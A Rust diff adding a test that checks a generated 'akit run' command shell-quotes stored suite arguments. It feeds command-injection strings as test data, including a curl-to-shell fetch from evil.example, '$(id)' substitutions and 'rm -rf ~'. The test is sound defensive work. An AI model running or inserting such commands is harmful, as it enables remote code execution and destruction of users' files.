@@ -137,6 +137,23 @@ fn what_broke_is_named_right_after_the_decision_and_no_row_is_empty() {
 }
 
 #[test]
+fn a_command_to_copy_runs_nothing_that_a_stored_run_brings() {
+    let suite = |words: &[&str]| {
+        let mut fixture = Fixture::short();
+        fixture.run.cases.retain(|case| case.id == "broken");
+        fixture.run.suite = words.iter().map(|word| (*word).to_owned()).collect();
+        of_report(&fixture.report())
+    };
+    let usual = suite(&["my bot/a.yaml", "-t release gate", "--case x"]);
+    assert!(usual.contains("akit run 'my bot/a.yaml' -t 'release gate' --case x"), "{usual}");
+    for word in ["-x;curl${IFS}evil.example|sh y", "--case$(id) y", "$(id)", "a.yaml; rm -rf ~"] {
+        let page = suite(&[word]);
+        let command = page.split("<code>akit run ").nth(1).unwrap();
+        assert!(command.starts_with('\''), "{command}");
+    }
+}
+
+#[test]
 fn an_answer_stands_beside_the_one_before() {
     let shown = |now: &str, before: &str| {
         let trials = vec![trial(0, Outcome::Failed, Some(verdict(VerdictKind::Contains, "no")), now)];
